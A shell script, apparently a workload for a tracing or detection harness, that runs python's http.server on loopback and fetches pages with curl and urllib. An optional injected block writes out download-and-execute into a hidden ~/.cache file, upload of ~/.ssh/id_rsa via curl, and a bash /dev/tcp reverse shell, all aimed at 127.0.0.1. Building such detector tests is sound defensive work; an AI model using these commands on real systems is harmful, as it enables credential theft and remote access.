# An HTTP server and its clients on loopback: python's http.server on the run's
# own port (RUN_PORT, chosen free by trace.sh), fetched with curl and urllib.
set -eu
py=/usr/bin/python3
[ -x "$py" ] || py=python3
url=http://127.0.0.1:$RUN_PORT
"$py" -u -m http.server "$RUN_PORT" --bind 127.0.0.1 --directory site >server.log 2>&1 &
server=$!
# Stop the server however the workload ends.
trap 'kill "$server" 2>/dev/null || true; wait "$server" 2>/dev/null || true' EXIT
# Wait until it listens (it says so), without knocking on its port.
i=0
until grep -q '^Serving' server.log; do
    i=$((i + 1))
    [ "$i" -le 100 ] || { echo "the server did not start" >&2; exit 1; }
    sleep 0.1
done
mkdir got
while read -r page; do
    curl -sSf -o "got/$page" "$url/$page"
done < pages
curl -sSf "$url/data/" >got/index.html
"$py" -c 'import sys, urllib.request
for line in urllib.request.urlopen(sys.argv[1] + "/data/").read().decode().splitlines():
    if "href=\"" in line:
        name = line.split("href=\"")[1].split("\"")[0]
        urllib.request.urlopen(sys.argv[1] + "/data/" + name).read()
' "$url"
if [ -n "${HONK_INJECT:-}" ]; then
    # download and execute: a script fetched from the server, made executable, run
    printf '#!/bin/sh\nid\n' > site/.u.sh
    mkdir -p "$HOME/.cache"
    curl -sSf -o "$HOME/.cache/.u" "$url/.u.sh"
    chmod +x "$HOME/.cache/.u"
    "$HOME/.cache/.u" >/dev/null
    # exfiltrate the user's key to the loopback server
    curl -s -o /dev/null --data-binary "@$HOME/.ssh/id_rsa" "$url/upload" || true
    # a reverse shell to a port nobody listens on
    bash -c 'bash -i >&/dev/tcp/127.0.0.1/1337 0>&1' 2>/dev/null || true
fi
kill "$server"
wait "$server" || true
trap - EXIT
